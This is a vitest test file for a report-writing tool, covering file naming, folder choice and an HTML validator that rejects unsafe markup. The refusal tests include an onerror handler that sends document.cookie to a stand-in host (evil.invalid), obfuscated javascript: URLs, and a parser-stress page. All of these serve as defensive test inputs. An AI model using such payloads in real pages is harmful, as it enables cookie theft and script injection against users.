import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { GuideService } from '../../src/core/guides/guides';
import { RESULT_MAX_BYTES, ResultWriter, stamp, type ResultWriterOptions } from '../../src/core/results/resultWriter';
import type { Services } from '../../src/core/services';
import { invokeTool } from '../../src/core/tools/invoke';
import type { ToolDefinition } from '../../src/core/tools/toolDefinition';
import { writeResultTool } from '../../src/core/tools/writeResult';
import { tempHome } from './helpers/tempStore';

type Reply = Record<string, unknown>;

const AT = new Date(2026, 10, 30, 9, 5, 7).getTime(); // local time, as the file name is

function setup(opts: Partial<ResultWriterOptions> = {}) {
  const root = tempHome('results');
  const out = path.join(root, 'out');
  const options: ResultWriterOptions = { outputDirectory: out, fallbackDirectory: path.join(root, 'fallback'), downloadsDirectory: path.join(root, 'Downloads'), now: () => AT, ...opts };
  const services = { results: new ResultWriter(options), guides: new GuideService() } as unknown as Services;
  const call = (input: unknown) => invokeTool(writeResultTool as ToolDefinition, input, services, { client: 'vitest' }) as Promise<Reply>;
  return { root, out, call };
}

const page = (body: string, head = '') => `<!doctype html>\n<html lang="en">\n<head><meta charset="utf-8"><title>t</title>${head}</head>\n<body>\n${body}\n</body>\n</html>\n`;

function files(dir: string): string[] {
  return fs.existsSync(dir) ? fs.readdirSync(dir).sort() : [];
}

describe('write_result', () => {
  it('writes markdown by default as report-YYYYMMDD-HHMMSS.md in local time and returns the receipt', async () => {
    const { out, call } = setup();
    const content = '# Findings\n\nÅ 1 — done.\n';
    const r = await call({ content });
    expect(stamp(AT)).toBe('report-20261130-090507');
    expect(r).toEqual({ ok: true, path: path.join(out, 'report-20261130-090507.md'), bytes: Buffer.byteLength(content), format: 'md', folder: 'configured' });
    expect(fs.readFileSync(String(r.path), 'utf8')).toBe(content);
    expect(files(out)).toEqual(['report-20261130-090507.md']); // no temp file left behind
  });

  it('never overwrites: a taken name gets -2, -3…, and an existing file keeps its bytes', async () => {
    const { out, call } = setup();
    fs.mkdirSync(out, { recursive: true });
    fs.writeFileSync(path.join(out, 'report-20261130-090507.md'), 'a person wrote this');
    const second = await call({ content: 'two' });
    const third = await call({ content: 'three' });
    const html = await call({ content: page('<p>hi</p>'), format: 'html' });
    expect(path.basename(String(second.path))).toBe('report-20261130-090507-2.md');
    expect(path.basename(String(third.path))).toBe('report-20261130-090507-3.md');
    expect(path.basename(String(html.path))).toBe('report-20261130-090507.html');
    expect(fs.readFileSync(path.join(out, 'report-20261130-090507.md'), 'utf8')).toBe('a person wrote this');
    expect(fs.readFileSync(String(third.path), 'utf8')).toBe('three');
    expect(files(out)).toHaveLength(4);
  });

  it('keeps every file when many writes race in the same second', async () => {
    const { out, call } = setup();
    const replies = await Promise.all(Array.from({ length: 8 }, (_, i) => call({ content: `n${i}` })));
    expect(new Set(replies.map((r) => r.path)).size).toBe(8);
    const contents = files(out).map((f) => fs.readFileSync(path.join(out, f), 'utf8')).sort();
    expect(contents).toEqual(Array.from({ length: 8 }, (_, i) => `n${i}`));
  });

  it('picks the folder: configured (created, re-read each call), else Downloads when it exists, else the fallback', async () => {
    const root = tempHome('results-folder');
    let configured: string | undefined = path.join(root, 'chosen', 'deep');
    const writer = new ResultWriter({ outputDirectory: () => configured, downloadsDirectory: path.join(root, 'Downloads'), fallbackDirectory: path.join(root, 'store', 'results'), now: () => AT });
    expect(await writer.write({ content: 'a' })).toMatchObject({ ok: true, folder: 'configured', path: expect.stringContaining(path.join('chosen', 'deep')) });
    configured = '';
    expect(await writer.write({ content: 'b' })).toMatchObject({ ok: true, folder: 'fallback', path: expect.stringContaining(path.join('store', 'results')) });
    fs.mkdirSync(path.join(root, 'Downloads'));
    expect(await writer.write({ content: 'c' })).toMatchObject({ ok: true, folder: 'downloads', path: path.join(root, 'Downloads', 'report-20261130-090507.md') });
    configured = 'relative/dir';
    expect(await writer.write({ content: 'd' })).toMatchObject({ ok: false, reason: expect.stringContaining('absolute') });
  });

  it('writes a valid HTML page: scripts that build DOM, JSON data, a module, external scripts and comments are fine', async () => {
    const { call } = setup();
    const content = page(
      [
        '<!-- {{ not rendered }} <script>document.write("x")</script> <img onerror="x"> -->',
        '<a href="https://example.invalid/onerror=1?javascript:x">a link</a> <p data-onerror="x" class="on">text about onclick= handlers</p>',
        '<p id="t">Total: 42</p><ul id="l"></ul>',
        '<script type="application/json" id="data">{"rows": [1, 2, 3]}</script>',
        '<script>',
        '  const rows = JSON.parse(document.getElementById("data").textContent).rows;',
        '  for (const r of rows) { const li = document.createElement("li"); li.textContent = String(r); document.getElementById("l").append(li); }',
        '  if (document.body.innerHTML === "") globalThis.__pageRan = true;',
        '  const tip = "<a href=\\"javascript:x\\" onclick=\\"y\\">"; void tip;',
        '</script>',
        '<script type="module">',
        "import { html } from 'https://example.invalid/lib.js';",
        'export const x = await Promise.resolve(1);',
        'export default function render() { return html; }',
        '</script>',
        '<script src="https://example.invalid/chart.js"></script>',
        '<script type="text/plain">not code at all (</script>',
      ].join('\n'),
    );
    const r = await call({ content, format: 'html' });
    expect(r).toMatchObject({ ok: true, format: 'html', bytes: Buffer.byteLength(content) });
    expect(fs.readFileSync(String(r.path), 'utf8')).toBe(content);
    expect((globalThis as { __pageRan?: boolean }).__pageRan).toBeUndefined(); // parsed, never run
  });

  const refusals: [string, string, RegExp][] = [
    ['a script that does not parse', page('<p>x</p>\n<script>\nconst a = ;\n</script>'), /inline <script> #1 \(page line 6\) does not parse: .*at page line 7/],
    ['a module that does not parse', page("<script type=\"module\">\nimport a from 'b';\nlet = 3 3;\n</script>"), /does not parse.*at page line 7/],
    ['document.write', page('<script>document.write("<p>x</p>")</script>'), /`document\.write` at page line 5/],
    ['innerHTML assignment', page('<script>\ndocument.body.innerHTML = "<b>x</b>";\n</script>'), /`\.innerHTML =` at page line 6/],
    ['innerHTML +=', page('<script>el.innerHTML += "<i>x</i>";</script>'), /`\.innerHTML =`/],
    ['outerHTML assignment', page('<script>el.outerHTML = "<b>x</b>";</script>'), /`\.outerHTML =`/],
    ['insertAdjacentHTML', page("<script>el.insertAdjacentHTML('beforeend', '<b>x</b>');</script>"), /`insertAdjacentHTML`/],
    ['a {{ }} expression', page('<p>{{ total }}</p>'), /`\{\{ \}\}` template expression at page line 5/],
    ['an invalid JSON block', page('<script type="application/json">{rows: 1}</script>'), /not valid JSON/],
    ['an unclosed script', page('<script>let a = 1;'), /never closed/],
    ['a fragment without <html>', '<body><p>hi</p></body>', /missing `<html>`, `<\/html>`/],
    ['a document without <body>', '<html><head></head></html>', /missing `<body>`/],
    // Issue 21, item 9: code in the markup, which the script checks never saw.
    ['an onerror= handler', page('<img src="x.png" onerror="fetch(`//evil.invalid/?c=`+document.cookie)">'), /<img> at page line 5 has the inline event handler `onerror=`/],
    ['an unquoted onclick handler', page('<p>\n<button type=button onclick=go()>Go</button></p>'), /<button> at page line 6 has the inline event handler `onclick=`/],
    ['a javascript: link', page('<a href="javascript:alert(1)">open</a>'), /<a> at page line 5 has a `javascript:` URL in `href`/],
    ['a disguised javascript: link', page('<a href=" JaVa&#x09;Script&colon;alert(1)">open</a>'), /`javascript:` URL in `href`/],
    ['a javascript: form action', page('<form action="javascript:void(0)"><button>x</button></form>'), /`javascript:` URL in `action`/],
  ];
  for (const [label, content, expected] of refusals) {
    it(`refuses ${label} and writes nothing`, async () => {
      const { root, out, call } = setup();
      const r = await call({ content, format: 'html' });
      expect(r).toMatchObject({ ok: false });
      expect(String(r.reason)).toMatch(expected);
      expect(files(out)).toEqual([]);
      expect(files(path.join(root, 'fallback'))).toEqual([]);
    });
  }

  it('reads the tags of a hostile page in one pass: tags never closed and quotes never ended', async () => {
    const { call } = setup();
    const t0 = performance.now();
    const r = await call({ content: page(`${'<a title="x '.repeat(200_000)}<img src=x onerror=alert(1)>`), format: 'html' });
    expect(performance.now() - t0).toBeLessThan(5000);
    expect(r).toMatchObject({ ok: false });
    const open = await call({ content: page('<p>fine</p>'.repeat(10) + '<a href="x" '.repeat(200_000)), format: 'html' });
    expect(performance.now() - t0).toBeLessThan(10_000);
    expect(open).toMatchObject({ ok: true });
  });

  it('lists every problem of a broken page in one refusal, with the html_render rules when the structure is missing', async () => {
    const { out, call } = setup();
    const content = [
      '<div>{{ title }}</div>',
      '<script>document.write("a"); x.innerHTML = "b"; y.outerHTML = "c"; z.insertAdjacentHTML("afterend", "d");</script>',
      '<script>function (</script>',
      '<p>{{ more }}</p>',
    ].join('\n');
    const r = await call({ content, format: 'html' });
    expect(r).toMatchObject({ ok: false, incomplete_document: true });
    const problems = r.problems as string[];
    expect(problems).toHaveLength(7);
    const reason = String(r.reason);
    expect(reason).toContain('7 problems');
    for (const part of ['missing `<html>`, `</html>`, `<body>`', 'document.write', '.innerHTML =', '.outerHTML =', 'insertAdjacentHTML', 'does not parse', 'page lines 1, 4']) {
      expect(reason).toContain(part);
    }
    expect(reason).toContain('## html_render');
    expect(files(out)).toEqual([]);
  });

  it('does not attach the html_render rules when only a script is wrong', async () => {
    const { call } = setup();
    const r = await call({ content: page('<script>x.innerHTML = 1</script>'), format: 'html' });
    expect(r).toMatchObject({ ok: false, problems: [expect.stringContaining('.innerHTML =')] });
    expect(String(r.reason)).not.toContain('## html_render');
  });

  it('does not check markdown as HTML, and refuses empty content, an unknown format and oversize content', async () => {
    const { out, call } = setup();
    expect(await call({ content: 'Use {{ braces }} and el.innerHTML = x freely in prose.' })).toMatchObject({ ok: true, format: 'md' });
    expect(await call({ content: '' })).toMatchObject({ ok: false });
    expect(await call({ content: 'x', format: 'pdf' })).toMatchObject({ ok: false });
    const big = await call({ content: 'x'.repeat(RESULT_MAX_BYTES + 1) });
    expect(big).toMatchObject({ ok: false, budget: { limit: RESULT_MAX_BYTES, used: RESULT_MAX_BYTES + 1, unit: 'bytes' } });
    expect(files(out)).toHaveLength(1);
  });
});
